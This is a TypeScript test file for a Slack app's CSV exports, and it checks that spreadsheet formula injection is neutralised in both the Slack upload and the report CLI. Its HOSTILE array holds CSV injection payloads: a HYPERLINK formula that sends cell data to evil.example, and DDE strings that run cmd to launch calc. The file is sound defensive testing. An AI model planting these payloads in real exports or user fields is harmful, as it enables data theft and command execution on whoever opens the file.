import { parse } from 'csv-parse/sync';
import { neutraliseCsvCell } from '../../src/domain/csv-cell';
import { cliDatabase } from '../helpers/cli-database';
import { runReportCli } from '../../src/cli/report';
import { writeCsv } from '../../src/slack/report-export';
import { createFixedClock } from '../../src/clock';
import { setTeam, startHarness, type Harness } from '../helpers/harness';

/**
 * The attack: a person sets their Slack display name to a spreadsheet formula; whoever opens a Leadwell CSV
 * export in Excel or Sheets would run it. Both exports (the Slack upload and `npm run report -- --csv`)
 * must carry it as text.
 */
const HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"Click me")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\tTAB=1+1', '\rCR=1+1'];

describe('CSV formula injection', () => {
  it('neutralises every OWASP trigger with a leading quote and leaves other text and numbers alone', () => {
    for (const h of HOSTILE) expect(neutraliseCsvCell(h)).toBe(`'${h}`);
    expect(neutraliseCsvCell('Maria Manager')).toBe('Maria Manager');
    expect(neutraliseCsvCell('')).toBe('');
    const csv = writeCsv([{ name: HOSTILE[0], n: -3 }], ['name', 'n']);
    const [row] = parse(csv, { columns: true }) as Array<Record<string, string>>;
    expect(row).toEqual({ name: `'${HOSTILE[0]}`, n: '-3' });
  });

  describe('through both exports', () => {
    let h: Harness;
    let managers: string[];
    beforeEach(async () => {
      h = await startHarness();
      managers = HOSTILE.map((name, i) => h.emulator.addUser({ name, realName: name, tz: 'UTC', email: `m${i}@example.com` }).id);
      for (const m of managers) await setTeam(h, m, [h.emulator.addUser({ name: `r-${m}`, tz: 'UTC' }).id]);
      await setTeam(h, h.people.admin, managers);
    });
    afterEach(async () => {
      expect(h.emulator.violations()).toEqual([]);
      await h.stop();
    });

    function hostileCells(csv: string): string[] {
      const rows = parse(csv, { columns: true }) as Array<Record<string, string>>;
      return rows.filter((r) => managers.includes(r.manager_id!)).map((r) => r.manager_name!);
    }

    it('the /coach report export uploaded to Slack and the report CLI carry the names as text', async () => {
      await h.driver.command(h.people.admin, '/coach', 'report export');
      const file = await h.emulator.waitFor(() => h.emulator.files().find((f) => f.completed));
      const uploaded = hostileCells(file.bytes!.toString('utf8'));
      expect(uploaded.sort()).toEqual(HOSTILE.map((n) => `'${n}`).sort());

      const out: string[] = [];
      const target = cliDatabase(h);
      try {
        expect(await runReportCli(['--csv'], target.env, { out: (t) => out.push(t), err: () => undefined }, createFixedClock(h.clock.now()))).toBe(0);
      } finally {
        target.restore();
      }
      expect(hostileCells(out.join('')).sort()).toEqual(HOSTILE.map((n) => `'${n}`).sort());
      // No cell of either file starts a formula.
      for (const csv of [file.bytes!.toString('utf8'), out.join('')]) {
        for (const row of parse(csv) as string[][]) for (const cell of row) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);
      }
    });
  });
});
